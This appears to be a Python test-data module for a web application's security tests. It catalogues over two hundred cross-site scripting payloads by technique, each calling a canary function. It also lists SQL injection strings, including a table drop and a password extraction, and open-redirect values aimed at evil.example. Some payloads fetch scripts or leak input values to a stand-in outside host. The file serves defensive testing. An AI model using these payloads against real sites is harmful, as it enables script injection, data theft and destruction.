"""Hostile texts: two hundred and more ways by which a text becomes a script, each calling `hit(number)` if it does.

Ordered by the trick. `CALL` stands for the call, `FAR` for an address outside; `PLAIN` are the few that go into every text
field, where escaping alone must hold. Where a person has to do something, the journey does it (see `provoke`).
"""

FAR = "http://canary.example"
CALL = "hit(0)"

EVENTS = (
    "<img src=x onerror=CALL>", "<img src=x: onerror=CALL //", "<image src=x onerror=CALL>", "<img/src='x'/onerror='CALL'>",
    "<img\tsrc=x\tonerror=CALL>", "<img\nsrc=x\nonerror\n=\nCALL>", "<img src=x onerror\x0c=CALL>", "<IMG SRC=x ONERROR=CALL>",
    '<img """><img src=x onerror=CALL>', "<img src=x onerror=CALL", "<<img src=x onerror=CALL>>", "<img src=x onerror=\"CALL\"",
    "<body onload=CALL>", "<body onpageshow=CALL>", "<body onfocus=CALL autofocus tabindex=1>", "<html onmouseover=CALL>",
    "<input autofocus onfocus=CALL>", "<input onfocusin=CALL autofocus>", "<select autofocus onfocus=CALL>",
    "<textarea autofocus onfocus=CALL>", "<keygen autofocus onfocus=CALL>", "<button autofocus onfocus=CALL>go</button>",
    "<a href=# autofocus onfocus=CALL tabindex=1>a</a>", "<div tabindex=1 autofocus onfocus=CALL>a</div>",
    "<p onmouseover=CALL>over</p>", "<p onclick=CALL>click</p>", "<p onpointerenter=CALL>enter</p>", "<p onwheel=CALL>wheel</p>",
    "<b oncopy=CALL>copy</b>", "<p onauxclick=CALL>aux</p>", "<p ondblclick=CALL>twice</p>", "<p onkeydown=CALL tabindex=0>key</p>",
    "<audio src=x onerror=CALL>", "<video src=x onerror=CALL>", "<video><source src=x onerror=CALL></video>",
    "<video poster=x onerror=CALL src=x>", "<details open ontoggle=CALL><summary>s</summary>t</details>",
    "<marquee onstart=CALL>m</marquee>", "<iframe onload=CALL></iframe>", "<iframe src=about:blank onload=CALL>",
    "<object data=x onerror=CALL>", "<embed src=x onload=CALL>", "<link rel=stylesheet href=x onerror=CALL>",
    "<style onload=CALL></style>", "<style>@import 'x'</style onerror=CALL>", "<script src=x onerror=CALL></script>",
    "<div id=x popover onbeforetoggle=CALL>p</div><button popovertarget=x>open</button>",
    "<div style='animation:a 1s' onanimationstart=CALL>a</div><style>@keyframes a{}</style>",
    "<p style='transition:color 1ms' ontransitionend=CALL>t</p>", "<form onsubmit=CALL><button>send</button></form>",
    "<input type=image src=x onerror=CALL>", "<p onscroll=CALL style='overflow:auto;height:9px'>a<br>b<br>c</p>",
    "<p oncontextmenu=CALL>menu</p>", "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=CALL>",
    "<p contenteditable onbeforeinput=CALL oninput=CALL>edit</p>", "<p oncontentvisibilityautostatechange=CALL style='display:block;content-visibility:auto'>c</p>",
)  # fmt: skip
SCRIPTS = (
    "<script>CALL</script>", "<SCRIPT>CALL</SCRIPT>", "<script >CALL</script >", "<script\n>CALL</script\n>", "<script/x>CALL</script>",
    "<script>CALL//", "<script type=text/javascript>CALL</script>", "<script type=module>CALL</script>", "<scr<script>ipt>CALL</scr</script>ipt>",
    "<script src=data:text/javascript,CALL></script>", "<script src='data:text/javascript;base64,aGl0KDAp'></script>",
    f"<script src={FAR}/x.js></script>", "<script src=/healthz></script><script>CALL</script>", "<script nonce=x>CALL</script>",
    "<script nonce>CALL</script>", "<script><!--\nCALL\n--></script>", "<script>/*</script><script>*/CALL</script>",
    "<script defer>CALL</script>", "<script async>CALL</script>", "<script>self['hi'+'t'](0)</script>", "<script>eval('CALL')</script>",
    "<script>setTimeout('CALL')</script>", "<script>Function('CALL')()</script>", "<script>import('data:text/javascript,CALL')</script>",
    "<script type=importmap>{\"imports\":{\"a\":\"data:text/javascript,CALL\"}}</script><script type=module>import 'a'</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">", "<template><script>CALL</script></template><script>CALL</script>",
)  # fmt: skip
SVG = (
    "<svg onload=CALL>", "<svg/onload=CALL>", "<svg><script>CALL</script></svg>", "<svg><script>hit&#40;0&#41;</script></svg>",
    "<svg><script href=data:text/javascript,CALL /></svg>", "<svg><script xlink:href=data:text/javascript,CALL></script></svg>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>", "<svg><set onbegin=CALL attributeName=x></svg>", "<svg><animate onend=CALL attributeName=x dur=1ms></svg>",
    "<svg><a><animate attributeName=href values=javascript:CALL /><text x=20 y=20>click</text></a></svg>",
    "<svg><a xlink:href='javascript:CALL'><text x=20 y=20>click</text></a></svg>", "<svg><a href='javascript:CALL'><text x=20 y=20>click</text></a></svg>",
    "<svg><image href=x onerror=CALL></svg>", "<svg><image xlink:href=x onerror=CALL></svg>", "<svg><foreignObject><body onload=CALL></foreignObject></svg>",
    "<svg><foreignObject><img src=x onerror=CALL></foreignObject></svg>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:CALL>x</a></svg>#x'></svg>",
    "<svg><style><img src=x onerror=CALL></style></svg>", "<svg><desc><img src=x onerror=CALL></desc></svg>", "<svg><title><img src=x onerror=CALL></title></svg>",
    "<svg><discard onbegin=CALL></svg>", "<svg><animateTransform onbegin=CALL attributeName=transform></svg>", "<svg xmlns='#'><script>CALL</script></svg>",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>\">", "<svg><handler type=text/javascript>CALL</handler></svg>",
)  # fmt: skip
MATHS = (
    "<math><mtext><img src=x onerror=CALL></mtext></math>", "<math><mi href='javascript:CALL'>click</mi></math>", "<math href='javascript:CALL'>click</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=CALL></annotation-xml></math>", "<math><mglyph><img src=x onerror=CALL></math>",
    "<math><maction actiontype=statusline xlink:href='javascript:CALL'>click</maction></math>", "<math><style><img src=x onerror=CALL></style></math>",
    "<math><malignmark><script>CALL</script></math>", "<math><mtext><script>CALL</script></mtext></math>",
)  # fmt: skip
MUTATION = (
    "<svg></p><style><a id=\"</style><img src=x onerror=CALL>\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=CALL&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src=x onerror=CALL></style>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CALL>",
    "<svg><style><!--</style><img src=x onerror=CALL>--></svg>", "<noscript><style></noscript><img src=x onerror=CALL>", "<noembed><img title=\"</noembed><img src=x onerror=CALL>\"></noembed>",
    "<xmp><p title=\"</xmp><img src=x onerror=CALL>\">", "<textarea><img title=\"</textarea><img src=x onerror=CALL>\">", "<title><a title=\"</title><img src=x onerror=CALL>\">",
    "<iframe><a title=\"</iframe><img src=x onerror=CALL>\">", "<noframes><a title=\"</noframes><img src=x onerror=CALL>\">", "<style><a title=\"</style><img src=x onerror=CALL>\">",
    "<plaintext><img src=x onerror=CALL>", "<!--><img src=x onerror=CALL>-->", "<!---><img src=x onerror=CALL>-->", "<!--!><img src=x onerror=CALL>", "<!-- --!><img src=x onerror=CALL>",
    "<![CDATA[><img src=x onerror=CALL>]]>", "<svg><![CDATA[</svg><img src=x onerror=CALL>]]>", "<?xml ?><img src=x onerror=CALL>", "<? ><img src=x onerror=CALL>",
    "<a href='x' title='\"><img src=x onerror=CALL>'>t</a>", "<a href=\"`\" title=`\"><img src=x onerror=CALL>`>", "<table><td><script>CALL</script></td></table>",
    "<select><option><script>CALL</script></option></select>", "<select><style></select><img src=x onerror=CALL></style>", "<svg><p><style><g title=\"</style><img src=x onerror=CALL>\">",
    "<math></br><style><a title=\"</style><img src=x onerror=CALL>\">", "<div><template shadowrootmode=open><img src=x onerror=CALL></template></div>", "<frameset onload=CALL>",
    "<a><svg><a><style><img src=x onerror=CALL></style></a></svg></a>", "<b><a><b><i><p><img src=x onerror=CALL></b></a>", "<h1><h3 onclick=CALL>h</h3><script>CALL</script></h1>",
)  # fmt: skip
ADDRESSES = (
    "<a href='javascript:CALL'>click</a>", "<a href='JaVaScRiPt:CALL'>click</a>", "<a href=' javascript:CALL'>click</a>", "<a href='java\tscript:CALL'>click</a>",
    "<a href='java\nscript:CALL'>click</a>", "<a href='java&#10;script:CALL'>click</a>", "<a href='java&Tab;script:CALL'>click</a>", "<a href='javascript&colon;CALL'>click</a>",
    "<a href='&#106;avascript:CALL'>click</a>", "<a href='&#x6a;avascript:CALL'>click</a>", "<a href='&#0000106avascript:CALL'>click</a>", "<a href='\x01javascript:CALL'>click</a>",
    "<a href='javascript://%0aCALL'>click</a>", "<a href='javascript:/*http://x*/CALL'>click</a>", "<a href='vbscript:CALL'>click</a>", "<a href='data:text/html,<script>CALL</script>'>click</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5oaXQoMCk8L3NjcmlwdD4='>click</a>", "<a href='http:javascript:CALL'>click</a>", "<a href='view-source:javascript:CALL'>click</a>",
    "<a href='feed:javascript:CALL'>click</a>", "<a href=javascript:CALL target=_self>click</a>", "<area href='javascript:CALL'>", "<map name=m><area shape=default href='javascript:CALL'></map><img usemap=#m src=x width=9 height=9>",
    "<form action='javascript:CALL'><button>send</button></form>", "<form id=f></form><button form=f formaction='javascript:CALL'>send</button>", "<button formaction='javascript:CALL'>send</button>",
    "<input type=submit formaction='javascript:CALL'>", "<iframe src='javascript:CALL'></iframe>", "<iframe src='javascript:parent.CALL'></iframe>", "<iframe src='data:text/html,<script>parent.CALL</script>'></iframe>",
    "<object data='javascript:CALL'></object>", "<embed src='javascript:CALL'>", "<img src='javascript:CALL'>", "<body background='javascript:CALL'>", "<link rel=import href='data:text/html,<script>CALL</script>'>",
    "<base href='javascript:CALL//'><a href='x'>click</a>", f"<base href='{FAR}/'><script src=x.js></script>", "<a ping='javascript:CALL' href=#>click</a>", "<blockquote cite='javascript:CALL'>q</blockquote>",
    "[click](javascript:CALL)", "<a href=https://ok.example onclick=CALL>click</a>", "<a href=\"https://ok.example/\"onclick=\"CALL\">click</a>", "<a href='//canary.example/' onmouseover='CALL'>over</a>",
)  # fmt: skip
FRAMES = (
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>", "<iframe srcdoc='<img src=x onerror=parent.CALL>'></iframe>", "<iframe srcdoc='&lt;script&gt;parent.CALL&lt;/script&gt;'></iframe>",
    "<iframe srcdoc='<svg onload=parent.CALL>'></iframe>", "<iframe sandbox=allow-scripts srcdoc='<script>top.CALL</script>'></iframe>", "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>CALL</script>'>", f"<meta http-equiv=refresh content='3600;url={FAR}/refresh'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>CALL</script>", "<portal src='javascript:CALL'>", "<fencedframe src='javascript:CALL'></fencedframe>",
)  # fmt: skip
STYLES = (
    "<style>@import 'javascript:CALL';</style>", "<div style='background:url(javascript:CALL)'>s</div>", "<div style='width:expression(CALL)'>s</div>", "<style>*{behavior:url(#x)}</style><p onclick=CALL>s</p>",
    f"<style>@import url({FAR}/x.css);</style>", f"<p style='background:url({FAR}/bg)'>s</p>", f"<link rel=stylesheet href={FAR}/x.css>", f"<style>input[value^=a]{{background:url({FAR}/leak)}}</style>",
    "<style></style><script>CALL</script><style></style>", "<xss style='xss:expression(CALL)'>", "<div style=\"-moz-binding:url('javascript:CALL')\">",
)  # fmt: skip
BREAKOUTS = (
    "\"><script>CALL</script>", "'><script>CALL</script>", "\"><img src=x onerror=CALL>", "'><img src=x onerror=CALL>", "\" autofocus onfocus=CALL x=\"", "' autofocus onfocus=CALL x='", "--></script><script>CALL</script>",
    "</title><script>CALL</script>", "</textarea><script>CALL</script>", "</style><script>CALL</script>", "</option></select><script>CALL</script>", "</template><script>CALL</script>", "</div></main></body><script>CALL</script>",
    "{{constructor.constructor('CALL')()}}", "${CALL}<img src=x onerror=CALL>", "{% debug %}<script>CALL</script>", "{{ request|safe }}<script>CALL</script>", "#{CALL}<svg onload=CALL>", "]]></x><script>CALL</script>",
    "\\\"><img src=x onerror=CALL>", "%3Cscript%3ECALL%3C/script%3E<svg/onload=CALL>", "&lt;script&gt;CALL&lt;/script&gt;<svg onload=CALL>", "&#60;script&#62;CALL&#60;/script&#62;<svg onload=CALL>",
    "\u003cscript\u003eCALL\u003c/script\u003e", "＜script＞CALL＜/script＞<svg onload=CALL>", "<ſcript>CALL</ſcript><svg onload=CALL>", "<img src=x onerror=&#104;&#105;&#116;(0)>", "<img src=x onerror='\\u0068it(0)'>",
    "<img src=x onerror=hit`0`>", "<img src=x onerror=top['h'+'it'](0)>", "\u202e<script>CALL</script>", "\ufeff<script>CALL</script>", "<img src=x one\u200brror=CALL onerror=CALL>", "<a\u00a0href='javascript:CALL'>click</a><svg onload=CALL>",
    "<scrıpt>CALL</scrıpt><svg onload=CALL>", "<svg\u3000onload=CALL><svg onload=CALL>", "a\u2028<script>CALL</script>",
)  # fmt: skip
GADGETS = (
    "<div hx-on:load='CALL'>g</div>", "<div hx-on::load='CALL'>g</div>", "<div hx-on:click='CALL'>click</div>", "<div hx-on='load: CALL'>g</div>", "<div hx-on--load=CALL>g</div>", "<button hx-on:htmx:after:init='CALL'>g</button>",
    "<div hx-get=/healthz hx-trigger=load hx-on:htmx:after:request='CALL'>g</div>", "<div hx-get=/healthz hx-trigger='load[CALL]'>g</div>", "<div hx-get=/healthz hx-trigger=load hx-vals='js:{a:CALL}'>g</div>",
    "<div hx-get=/healthz hx-trigger=load hx-vals='javascript:{a:CALL}'>g</div>", "<div hx-get=/healthz hx-trigger=load hx-headers='js:{a:CALL}'>g</div>", "<div hx-action='javascript:CALL' hx-trigger=load>g</div>",
    "<div hx-get='data:text/html,<script>CALL</script>' hx-trigger=load>g</div>", f"<div hx-get={FAR}/x hx-trigger=load hx-swap=outerHTML>g</div>", f"<div hx-get='{FAR}/x' hx-trigger='every 1s'>g</div>",
    "<div data-hx-on:load='CALL'>g</div>", "<div hx-confirm='js:CALL' hx-get=/healthz hx-trigger=load>g</div>", "<meta name=htmx-config content='{\"extensions\":\"\",\"inlineScriptNonce\":\"x\"}'><script>CALL</script>",
    "<form id=words><input name=dataset><input name=limit></form><svg onload=CALL>", "<img id=words data-limit='1' onerror=CALL src=x>", "<form name=htmx><input id=config></form><svg onload=CALL>", "<a id=trustedTypes href='javascript:CALL'>click</a>",
    "<form data-draft id='x' action='javascript:CALL'><input name=a value=b><button>send</button></form>", "<form data-pick><input name=querySelector onfocus=CALL autofocus></form>", "<a data-print href='javascript:CALL'>click</a>",
    "<div id=main data-focus tabindex=0 onfocus=CALL>g</div>", "<form><input name=attributes><input name=parentNode><img src=x onerror=CALL></form>", "<img name=getElementById src=x onerror=CALL>", "<a id=localStorage name=localStorage></a><svg onload=CALL>",
)  # fmt: skip
FAMILIES = {
    "events": EVENTS, "scripts": SCRIPTS, "svg": SVG, "maths": MATHS, "mutation": MUTATION, "addresses": ADDRESSES, "frames": FRAMES, "styles": STYLES, "breakouts": BREAKOUTS, "gadgets": GADGETS,
}  # fmt: skip
PAYLOADS = tuple(
    text.replace("CALL", CALL) if "CALL" in text else text for family in FAMILIES.values() for text in family
)
CLOSE = "</script></style></textarea></title></xmp></noscript></iframe></select></template></svg></math></table></form>-->\n"


def numbered(text: str, number: int) -> str:
    """The payload with its own number in the call."""
    return text.replace("hit(0)", f"hit({number})").replace("hit`0`", f"hit`{number}`").replace("](0)", f"]({number})")


PLAIN = "'\"></title></textarea></option></script><script>hit(1)</script><img src=x onerror=hit(2)><svg onload=hit(3)>{{7*7}}"
SHORT = '"><svg/onload=hit(4)>'

INJECTED = (
    "zq' OR '1'='1", "zq\" OR \"1\"=\"1", "zq') OR 1=1--", "zq'; DROP TABLE members_member;--", "zq' UNION SELECT password FROM accounts_account--", "zq%' OR name LIKE '%",
    "zq' AND pg_sleep(9)--", "1;SELECT 1", "1 OR 1=1", "-1", "0x31", "1e9", "name DESC, (SELECT 1)", "zq\\", "zq\\' OR 1=1--", "zq%%%s%(q)s", "zq_%", "{}", "[]", "$ne", "zq' || 'a",
)  # fmt: skip

HOSTILE_NEXT = (
    "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "https://evil.example", "https:evil.example", "http:evil.example",
    "https:/evil.example", "HTTPS://evil.example", "//evil.example\\@127.0.0.1", "https://127.0.0.1@evil.example", "//127.0.0.1.evil.example", "%2f%2fevil.example", "/%2fevil.example/../", "/%5cevil.example",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "/\t/evil.example", "/\n/evil.example", "\t//evil.example", " //evil.example", "/ /evil.example", "//\u3002evil.example",
    "／／evil.example", "/\u2215evil.example", "evil.example", ".evil.example", "@evil.example", "/.//evil.example", "/..//evil.example", "//[::1]", "//1249763844", "ftp://evil.example", "mailto:a@evil.example", "?next=//evil.example", "#//evil.example", "/\x85/evil.example",
)  # fmt: skip
